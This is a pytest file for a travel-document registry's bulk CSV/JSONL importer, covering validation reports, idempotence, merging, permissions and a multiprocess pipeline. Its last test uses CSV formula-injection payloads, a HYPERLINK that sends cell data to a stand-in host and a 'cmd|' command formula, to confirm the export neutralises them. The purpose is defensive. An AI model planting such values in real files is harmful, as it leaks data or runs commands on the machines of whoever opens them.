"""Bulk import: all or nothing, every bad row reported, idempotent, export round trip."""

from __future__ import annotations

import csv
import os
import struct
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError
from sqlalchemy import func, select, text
from sqlalchemy.orm import Session

from bordercheck.documents.numbers import split_serial
from bordercheck.errors import FieldError, InvalidInput, ValidationFailed
from bordercheck.registry import import_pipeline, service
from bordercheck.registry.feed import changes_since, last_sequence
from bordercheck.registry.files import read_rows, write_rows
from bordercheck.registry.import_rows import RowParser, values_from_fields
from bordercheck.registry.importer import Importer, ImportRejected, export_rows, import_file
from bordercheck.registry.models import Record
from bordercheck.registry.schemas import RecordFields, field_errors
from bordercheck.training.synthetic import SyntheticRegistry
from tests.factories import ADMIN, fields, make_bureau, officer

HEADER = "document_number,issuing_country,document_type,status,blank,serial_end,event_date\n"


@pytest.fixture(autouse=True)
def bureaus(session: Session) -> None:
    for code in SyntheticRegistry().countries:
        make_bureau(session, code)


def count(session: Session) -> int:
    return session.scalar(select(func.count()).select_from(Record)) or 0


def run_import(session: Session, path: Path, **options: Any) -> Any:
    importer = Importer(session, options.pop("actor", ADMIN), batch_size=3, **options)
    importer.add_rows(read_rows(path))
    return importer.finish()


def test_a_file_with_invalid_rows_writes_nothing_and_lists_every_bad_row(
    session: Session, tmp_path: Path
) -> None:
    path = tmp_path / "records.csv"
    path.write_text(
        HEADER
        + "C01X00T47,DEU,passport,stolen,false,,2024-01-02\n"
        + "12AB34567,XX,passport,lost,false,,2024-01-02\n"
        + "C01X00T48,DEU,passport,stolen,false,,2024-01-02\n"
        + "C01X00T49,DEU,spaceship,gone,false,,2024-13-02\n"
        + "C01X00T47,D,passport,lost,false,,\n"
        + "X0001200,FRA,passport,stolen,true,X0001100,\n"
    )
    before = last_sequence(session)
    with pytest.raises(ImportRejected) as caught:
        run_import(session, path)
    errors = {(e.line, e.field) for e in caught.value.report.errors}
    assert errors == {
        (3, "issuing_country"),
        (5, "document_type"),
        (5, "status"),
        (5, "event_date"),
        (6, "document_number"),  # the same document as line 2 (D is Germany)
        (7, "record"),  # the range ends before it starts
    }
    reasons = {e.line: e.reason for e in caught.value.report.errors}
    assert reasons[3] == "'XX' is not a country code"
    assert reasons[6] == "the same document as line 2 (number, country and type family)"
    session.rollback()
    assert count(session) == 0
    assert last_sequence(session) == before


def test_skip_invalid_imports_the_good_rows_and_hands_back_the_bad(
    session: Session, tmp_path: Path
) -> None:
    path = tmp_path / "records.csv"
    path.write_text(
        HEADER
        + "C01X00T47,DEU,passport,stolen,false,,2024-01-02\n"
        + "12AB34567,XX,passport,lost,false,,2024-01-02\n"
        + "12AB34568,FRA,passport,lost,false,,2024-01-02\n"
    )
    rejected: list[tuple[int, list[FieldError]]] = []
    report = run_import(
        session,
        path,
        skip_invalid=True,
        on_rejected=lambda line, _raw, errs: rejected.append((line, errs)),
    )
    assert (report.created, report.rejected_rows) == (2, 1)
    assert [line for line, _ in rejected] == [3]
    assert count(session) == 2


def test_importing_the_same_file_again_changes_nothing(session: Session, tmp_path: Path) -> None:
    path = tmp_path / "records.jsonl"
    write_rows(path, SyntheticRegistry(seed=7).records(40, ranges=2))
    first = run_import(session, path)
    seq = last_sequence(session)
    second = run_import(session, path)
    assert (first.created, first.unchanged) == (40, 0)
    assert (second.created, second.unchanged, second.updated) == (0, 40, 0)
    assert last_sequence(session) == seq


def test_a_changed_row_is_a_duplicate_unless_merged(session: Session, tmp_path: Path) -> None:
    path = tmp_path / "records.csv"
    path.write_text(HEADER + "C01X00T47,DEU,passport,stolen,false,,2024-01-02\n")
    run_import(session, path)
    path.write_text(HEADER + "C01X00T47,DEU,passport,lost,false,,2024-01-02\n")
    with pytest.raises(ImportRejected) as caught:
        run_import(session, path)
    assert "use --merge" in caught.value.report.errors[0].reason
    report = run_import(session, path, merge=True)
    assert report.updated == 1
    record = session.scalars(select(Record)).one()
    assert (record.status, record.version) == ("lost", 2)


def test_a_bureau_imports_only_its_own_countrys_documents(session: Session, tmp_path: Path) -> None:
    path = tmp_path / "records.csv"
    path.write_text(
        HEADER
        + "C01X00T47,DEU,passport,stolen,false,,2024-01-02\n"
        + "12AB34567,FRA,passport,lost,false,,2024-01-02\n"
    )
    with pytest.raises(ImportRejected) as caught:
        run_import(session, path, actor=officer("DEU"))
    (error,) = caught.value.report.errors
    assert (error.line, error.field) == (3, "issuing_country")
    assert "may not change records issued by FRA" in error.reason


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
def test_export_then_import_reproduces_the_file_exactly(
    session: Session, tmp_path: Path, suffix: str
) -> None:
    source = tmp_path / f"source.{suffix}"
    write_rows(source, SyntheticRegistry(seed=11).records(60, ranges=3))
    run_import(session, source)
    exported = tmp_path / f"exported.{suffix}"
    write_rows(exported, export_rows(session))
    assert exported.read_text() == source.read_text()


def test_bad_header_and_bad_json_are_reported_with_their_lines(tmp_path: Path) -> None:
    csv_path = tmp_path / "records.csv"
    csv_path.write_text("document_number,issuing_country,colour\nA1,DEU,red\n")
    with pytest.raises(ValidationFailed) as caught:
        list(read_rows(csv_path))
    fields = {(e.line, e.field) for e in caught.value.errors}
    assert fields == {(1, "colour"), (1, "document_type"), (1, "status")}
    jsonl = tmp_path / "records.jsonl"
    jsonl.write_text('{"document_number": "A1"}\n\nnot json\n[1, 2]\n')
    rows = list(read_rows(jsonl))
    assert [line for line, _ in rows] == [1, 3, 4]
    assert "not valid JSON" in rows[1][1]["__error__"]


def test_a_file_that_is_not_utf8_or_of_unknown_kind_is_refused(tmp_path: Path) -> None:
    latin = tmp_path / "records.csv"
    latin.write_bytes(
        HEADER.encode() + "C01X00T47,DEU,passport,stolen,false,,,M\xfcnchen\n".encode("latin-1")
    )
    with pytest.raises(InvalidInput, match="not UTF-8"):
        list(read_rows(latin))
    with pytest.raises(InvalidInput, match=r"use \.csv or \.jsonl"):
        list(read_rows(tmp_path / "records.xlsx"))


# --- the fast path and the two-process pipeline ---------------------------------------------

TOMORROW = date.today() + timedelta(days=1)
_PARSER = RowParser()  # shared, so that its caches are exercised across examples


def _values(*choices: Any) -> st.SearchStrategy[Any]:
    return st.sampled_from(choices)


_DOCUMENT = {
    "document_number": _values("C01X00T47", "12AB34567"),
    "issuing_country": _values("DEU", "FRA"),
    "document_type": _values("passport", "identity_card", "visa"),
    "status": _values("stolen", "lost"),
    "blank": _values("false", False, "", None),
    "issue_date": _values("2020-01-01", date(2021, 6, 30)),
    "expiry_date": _values("2030-01-01", date(2031, 1, 1)),
    "event_date": _values("2024-01-02", TOMORROW.isoformat()),
    "event_place": _values("BERLIN", "DEN HAAG"),
    "event_country": _values("DEU", "ITA", ""),
    "circumstances": _values("stolen from a car", None),
    "holder_surname": _values("MUELLER", ""),
    "holder_given_names": _values("ANNA", "JONAS"),
    "holder_birth_date": _values("1980-02-29", ""),
    "holder_nationality": _values("DEU", "SYR"),
    "incident_ref": _values("DEU-2024-000001", ""),
}
_RANGE = {
    **{name: _DOCUMENT[name] for name in ("issuing_country", "status", "event_date")},
    "document_number": _values("X0001200"),
    "serial_end": _values("X0001300", "X0001200"),
    "document_type": _values("passport"),
    "blank": _values("true", True),
}
_DATES = _values(
    "2024-02-30", "", None, " 2024-01-02", "2024-01-02T00:00:00", "20240102", "0001-01-01",
    "9999-12-31", "1700000000", date(2020, 1, 1), 0, (TOMORROW + timedelta(days=1)).isoformat(),
    "2024-١٢-01", "2031-01-01",
)  # fmt: skip
_TEXTS = _values("", " BERLIN", "A" * 201, "A" * 100, "A" * 101, None, 5, "  ", "É", "a\x1c")
_COUNTRIES = _values("D", "deu", "FR", "XX", "D<<", " DEU", "", "UK", "XPO", None, 3, "GBR<")
_NUMBERS = _values(
    "c01x-00t47", " C01X00T47", "", "  ", "ÄB12", "A" * 25, "12 34", "AB<<12", None, 12,
    "X0001250",
)  # fmt: skip
_ODD = {
    "document_number": _NUMBERS,
    "issuing_country": _COUNTRIES,
    "document_type": _values("Passport", " visa ", "ship", "", "identity", None, ["passport"]),
    "status": _values("LOST", "gone", "", None, " stolen"),
    "blank": _values("True", "1", "yes", " true", "", None, True, False, 0, 1, "2", "FALSE"),
    "serial_end": _values("", None, "X0001100", "Y0001300", "X00013", "X 0001301", "X0201300"),
    "issue_date": _DATES,
    "expiry_date": _DATES,
    "event_date": _DATES,
    "event_place": _TEXTS,
    "event_country": _COUNTRIES,
    "circumstances": _values("", " x", "B" * 2001, "B" * 2000, None),
    "holder_surname": _TEXTS,
    "holder_given_names": _TEXTS,
    "holder_birth_date": _DATES,
    "holder_nationality": _COUNTRIES,
    "incident_ref": _TEXTS,
    "colour": _values("red"),
}


@st.composite
def raw_rows(draw: st.DrawFn) -> dict[str, Any]:
    """A valid row (a document or a range), then a few fields made odd, missing or extra."""
    row: dict[str, Any] = draw(st.fixed_dictionaries(draw(_values(_DOCUMENT, _RANGE))))
    for name in draw(st.lists(st.sampled_from(sorted(_ODD)), max_size=3, unique=True)):
        if draw(st.booleans()):
            row[name] = draw(_ODD[name])
        else:
            row.pop(name, None)
    return row


@settings(max_examples=1500, deadline=None)
@given(raw=raw_rows())
def test_the_fast_path_accepts_exactly_what_the_model_accepts_with_the_same_values(
    raw: dict[str, Any],
) -> None:
    try:
        expected: Any = values_from_fields(RecordFields.model_validate(raw))
    except ValidationError as exc:
        expected = field_errors(exc)
    try:
        got: Any = _PARSER.parse(raw)
    except ValidationError as exc:
        got = field_errors(exc)
    assert got == expected


def _mixed_file(session: Session, path: Path) -> None:
    """Good rows and ranges, and every kind of bad row, some of them clashing with the database."""
    rows = list(SyntheticRegistry(seed=5).records(30, ranges=3))
    ranged = next(row for row in rows if row.get("serial_end"))
    clash = dict(rows[4], document_number="CLASH0001")
    same = dict(rows[5], document_number="SAME0001")
    importer = Importer(session, ADMIN)
    importer.add(1, dict(clash, status="revoked" if clash["status"] != "revoked" else "lost"))
    importer.add(2, same)
    importer.add(3, dict(ranged, document_number="Q0000001", serial_end="Q0000100"))
    importer.finish()
    rows += [
        clash,  # recorded differently in the database
        same,  # recorded just so: unchanged
        dict(ranged, document_number="Q0000050", serial_end="Q0000060"),  # overlaps the database
        dict(rows[0], status="lost"),  # the same document as line 2
        dict(
            ranged,
            document_number=_shifted(ranged["document_number"]),
            serial_end=_shifted(ranged["serial_end"]),
        ),
        dict(rows[1], issuing_country="XX"),
        dict(rows[2], event_date="2024-13-01", document_type="spaceship"),
    ]
    write_rows(path, rows)
    with path.open("a") as file:
        file.write("too,few,columns\n")


def _shifted(number: str) -> str:
    """The number after ``number``."""
    prefix, start, width = split_serial(number)
    return f"{prefix}{start + 1:0{width}d}"


def _outcome(session: Session, path: Path, **options: Any) -> tuple[Any, ...]:
    rejected: list[tuple[int, dict[str, Any], list[FieldError]]] = []
    savepoint = session.begin_nested()
    try:
        report = import_file(
            session,
            ADMIN,
            path,
            batch_size=4,
            on_rejected=lambda line, raw, errors: rejected.append((line, raw, errors)),
            **options,
        )
        result: tuple[Any, ...] = (
            report,
            list(export_rows(session)),
            last_sequence(session),
            sorted(rejected, key=lambda item: item[0]),
        )
    except ImportRejected as exc:
        result = (exc.report, sorted(rejected, key=lambda item: item[0]))
    savepoint.rollback()
    return result


@pytest.mark.parametrize(
    "options",
    [{}, {"skip_invalid": True}, {"skip_invalid": True, "merge": True}],
    ids=["all-or-nothing", "skip-invalid", "merge"],
)
def test_the_pipeline_gives_what_the_in_process_import_gives(
    session: Session, tmp_path: Path, options: dict[str, bool]
) -> None:
    path = tmp_path / "mixed.csv"
    _mixed_file(session, path)
    in_process = _outcome(session, path, pipeline=False, **options)
    piped = _outcome(session, path, pipeline=True, **options)
    assert piped == in_process
    report = in_process[0]
    merged = options.get("merge", False)
    assert (report.rows, report.unchanged, report.updated) == (38, 1, int(merged))
    reasons = {(e.line, e.field): e.reason for e in report.errors}
    if not merged:
        assert "is already recorded differently as record" in reasons[32, "document_number"]
    assert reasons[34, "document_number"].startswith("overlaps range record")
    assert reasons[35, "document_number"].startswith("the same document as line 2")
    first_range = next(line for line, row in read_rows(path) if row.get("serial_end"))
    assert reasons[36, "serial_end"] == f"this range overlaps the range on line {first_range}"
    assert (39, "row") in reasons
    refused = [32, 34, 35, 36, 37, 38, 39][int(merged) :]
    assert report.rejected_rows == len(refused)
    assert [line for line, _raw, _errors in in_process[-1]] == refused
    if options.get("skip_invalid"):
        assert report.created == 30


def test_the_pipeline_writes_records_and_feed_entries_as_the_orm_would(
    session: Session, tmp_path: Path
) -> None:
    path = tmp_path / "records.jsonl"
    write_rows(path, SyntheticRegistry(seed=3).records(25, ranges=2))
    before = last_sequence(session)
    seen: list[int] = []
    report = import_file(session, ADMIN, path, pipeline=True, on_progress=seen.append)
    assert (report.created, seen[-1]) == (25, 25)
    records = session.scalars(select(Record).order_by(Record.id)).all()
    changes = changes_since(session, before)
    assert [c.seq for c in changes] == list(range(before + 1, before + 26))
    assert [(c.record_id, c.document_number, c.kind) for c in changes] == [
        (r.id, r.document_number, "created") for r in records
    ]
    first_row = next(SyntheticRegistry(seed=3).records(25, ranges=2))
    assert service.record_fields(records[0]) == RecordFields.model_validate(first_row)
    # What the bulk path stored is what the ORM stores, and reads back the same way.
    orm = service.create_record(session, ADMIN, fields(document_number="ORM0001"))
    stored = session.execute(
        text("SELECT created_at, review_due FROM records WHERE id IN (:bulk, :orm) ORDER BY id"),
        {"bulk": records[0].id, "orm": orm.id},
    ).all()
    for bulk_value, orm_value in zip(*stored, strict=True):
        assert (type(bulk_value), len(str(bulk_value))) == (type(orm_value), len(str(orm_value)))
    session.expire_all()
    again = session.get(Record, records[0].id)
    assert again is not None
    assert (type(again.created_at), again.review_due) == (type(orm.created_at), orm.review_due)
    assert last_sequence(session) == before + 26
    again_report = import_file(session, ADMIN, path, pipeline=True)
    assert (again_report.created, again_report.unchanged) == (0, 25)
    assert last_sequence(session) == before + 26


def test_the_pipeline_reports_file_errors_as_the_in_process_import_does(
    session: Session, tmp_path: Path
) -> None:
    # Other tests of this worker may have left children of their own (a browser, a server).
    before = set(_child_processes() or [])
    header = tmp_path / "header.csv"
    header.write_text("document_number,issuing_country,colour\nA1,DEU,red\n")
    with pytest.raises(ValidationFailed) as caught:
        import_file(session, ADMIN, header, pipeline=True)
    assert {(e.line, e.field) for e in caught.value.errors} == {
        (1, "colour"),
        (1, "document_type"),
        (1, "status"),
    }
    latin = tmp_path / "latin.csv"
    latin.write_bytes(
        HEADER.encode() + "C01X00T47,DEU,passport,stolen,false,,,M\xfcnchen\n".encode("latin-1")
    )
    with pytest.raises(InvalidInput, match="not UTF-8"):
        import_file(session, ADMIN, latin, pipeline=True)
    assert set(_child_processes() or []) <= before, "the reader's process was left running"


def test_a_write_failing_midway_ends_the_pipelined_import_with_its_error(
    session: Session, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = set(_child_processes() or [])
    path = tmp_path / "records.jsonl"
    write_rows(path, SyntheticRegistry(seed=5).records(5 * import_pipeline.CHUNK_ROWS))
    written = import_pipeline._write_chunk

    def fails_on_the_second(writer: Any, chunk: Any) -> None:
        if writer.report.rows:
            raise RuntimeError("the database went away")
        written(writer, chunk)

    monkeypatch.setattr(import_pipeline, "_write_chunk", fails_on_the_second)
    with pytest.raises(RuntimeError, match="the database went away"):
        import_file(session, ADMIN, path, pipeline=True)
    assert set(_child_processes() or []) <= before, "the reader's process was left running"


def _dies_halfway_through_a_chunk(chunks: Any) -> None:
    """A reader stopped as it sends: a chunk's length and its first bytes, then gone."""
    os.write(chunks._writer.fileno(), struct.pack("!i", 1 << 20) + b"\x80" * 100)
    os._exit(1)


def test_a_reader_ended_halfway_through_a_chunk_is_seen_to_have_ended() -> None:
    # The race the import meets when a failed write stops the reader as it sends, made sure.
    processes = import_pipeline._PROCESSES
    chunks = processes.Queue(maxsize=import_pipeline.AHEAD_CHUNKS)
    reader = processes.Process(target=_dies_halfway_through_a_chunk, args=(chunks,))
    import_pipeline._start(reader, chunks)
    frames = import_pipeline._Frames(chunks, reader)
    frames.start()
    try:
        assert frames.inbox.get(timeout=30) == import_pipeline._Frames.ENDED
    finally:
        frames.stop()
        reader.join(10)
        chunks.close()
    assert not frames.is_alive()


def _child_processes() -> list[str] | None:
    """This process's children, where Linux tells (None elsewhere), but multiprocessing's
    resource tracker: one helper for the whole process, started with its first child."""
    found: list[str] = []
    tasks = Path("/proc/self/task")
    if not tasks.is_dir():
        return None
    for task in tasks.iterdir():
        children = task / "children"
        if not children.exists():
            return None
        found += children.read_text().split()
    return [pid for pid in found if b"resource_tracker" not in _command_line(pid)]


def _command_line(pid: str) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:  # it has ended since
        return b""


def test_an_exported_csv_runs_no_formula_and_imports_back_the_same_values(
    session: Session, tmp_path: Path
) -> None:
    typed = {
        "event_place": '=HYPERLINK("http://evil.example/?"&A1,"Berlin")',
        "circumstances": "@SUM(1+1)*cmd|' /C calc'!A0",
        "holder_surname": "-2+3",
        "holder_given_names": "+ANNA",
        "incident_ref": "'=quoted",
    }
    service.create_record(session, ADMIN, fields(**typed))
    exported = tmp_path / "exported.csv"
    write_rows(exported, export_rows(session))
    ((_, row),) = list(read_rows(exported))
    assert {name: row[name] for name in typed} == typed

    with exported.open(newline="") as file:
        cells = [cell for line in list(csv.reader(file))[1:] for cell in line]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK" in exported.read_text()
